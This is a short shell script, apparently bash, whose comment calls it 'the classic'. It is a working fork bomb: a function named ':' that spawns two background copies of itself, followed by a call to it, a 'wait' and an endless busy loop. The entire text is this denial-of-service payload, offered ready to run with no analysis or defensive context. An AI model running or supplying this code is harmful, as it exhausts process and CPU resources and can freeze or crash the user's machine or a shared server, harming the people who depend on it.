# The classic in its own language: a function that calls itself twice in the background.
:() { : | : & }
:
wait
while :; do :; done
